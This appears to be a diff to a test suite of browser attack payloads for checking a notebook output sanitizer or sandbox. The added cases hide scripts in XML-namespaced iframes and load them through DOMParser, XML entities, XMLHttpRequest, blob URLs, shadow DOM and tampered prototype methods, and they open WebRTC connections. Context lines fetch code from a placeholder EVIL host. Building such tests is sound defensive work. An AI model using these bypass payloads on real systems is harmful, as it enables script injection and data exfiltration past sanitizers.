@@ -56,6 +56,13 @@ def _framed(name: str, script: str, *, plain: bool = True) -> Attack:
     return Attack(name, f"html({'<p>chart</p><script>' + script + '</script>'!r})", plain)
 
 
+_XML = (
+    'xml=\'<x:iframe xmlns:x="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;p=new RTCPeerConnection({iceServers:['
+    "{urls:`stun:127.0.0.1:UDP`}]});p.createDataChannel(`x`);p.createOffer().then(o=&gt;p.setLocalDescription(o))"
+    "&lt;/script&gt;\"></x:iframe>';"
+)
+"""A frame as XML, under a name that no list of tags has, with a script in it that calls another host."""
+
 ATTACKS = (
     Attack("javascript", "display(Javascript(SCRIPT))"),
     Attack("javascript-odd-type", "show_data({'Application/JavaScript': SCRIPT, 'text/plain': 'x'})", plain=False),
@@ -158,6 +165,12 @@ ATTACKS = (
     _framed("inside-markup", "document.body.insertAdjacentHTML('beforeend','<iframe srcdoc=\"&lt;script&gt;p=new RTCPeerConnection({iceServers:[{urls:`stun:127.0.0.1:UDP`}]});p.createDataChannel(`x`);p.createOffer().then(o=&gt;p.setLocalDescription(o))&lt;/script&gt;\"></iframe>')", plain=False),
     _framed("inside-script-frame", "i=document.createElement('iframe');i.src=\"javascript:p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:UDP'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))\";document.body.append(i)", plain=False),
     _framed("inside-calls", "p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:UDP'},{urls:'turn:127.0.0.1:TCP?transport=tcp',username:'secret',credential:'c'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))", plain=False),
+    _framed("inside-xml", _XML + "document.body.append(document.adoptNode(new DOMParser().parseFromString(xml,'text/xml').documentElement))", plain=False),
+    _framed("inside-xml-entity", _XML + "document.body.append(document.adoptNode(new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e \"'+xml.replaceAll('&','&#38;').replaceAll('<','&#60;').replaceAll('\"','&#34;')+'\">]><a>&e;</a>','text/xml').documentElement))", plain=False),
+    _framed("inside-request-document", _XML + "r=new XMLHttpRequest();r.open('GET','data:text/xml,'+encodeURIComponent(xml));try{r.responseType='document'}catch(e){};r.onload=()=>{const d=r.response&&r.response.documentElement||r.responseXML&&r.responseXML.documentElement;if(d)document.body.append(document.adoptNode(d))};r.send()", plain=False),
+    _framed("inside-request-xml", _XML + "r=new XMLHttpRequest();r.open('GET',URL.createObjectURL(new Blob([xml],{type:'text/xml'})));r.onload=()=>{if(r.responseXML)document.body.append(document.adoptNode(r.responseXML.documentElement))};r.send()", plain=False),
+    _framed("inside-tampered", "RegExp.prototype.test=()=>false;RegExp.prototype.exec=()=>null;String.prototype.match=()=>null;Element.prototype.matches=()=>false;Element.prototype.querySelectorAll=()=>[];Element.prototype.remove=()=>0;NodeList.prototype.item=()=>null;" + _XML + "document.body.insertAdjacentHTML('beforeend',xml.replaceAll('x:','').replaceAll(':x',''))", plain=False),
+    _framed("inside-shadow", _XML + "h=document.createElement('div');s=h.attachShadow({mode:'open',clonable:true});document.body.append(h);r=new XMLHttpRequest();r.open('GET','data:text/xml,'+encodeURIComponent(xml));try{r.responseType='document'}catch(e){};r.onload=()=>{if(r.response&&r.response.documentElement)s.append(document.adoptNode(r.response.documentElement));document.body.append(h.cloneNode(true))};r.send()", plain=False),
     _framed("inside-worker", "new Worker(URL.createObjectURL(new Blob(['fetch(\"EVIL/NAME/worker\",{mode:\"no-cors\"});try{importScripts(\"EVIL/NAME/import\")}catch(e){}'])))"),
     _framed("inside-import", "import('EVIL/NAME/module.js').catch(()=>0);s=document.createElement('script');s.src='EVIL/NAME/s.js';document.head.append(s)"),
     _framed("inside-links", "for(const r of ['prefetch','preload','modulepreload','stylesheet','icon','manifest','preconnect','dns-prefetch','prerender']){const l=document.createElement('link');l.rel=r;l.as='image';l.href='EVIL/NAME/'+r;document.head.append(l)}", plain=True),
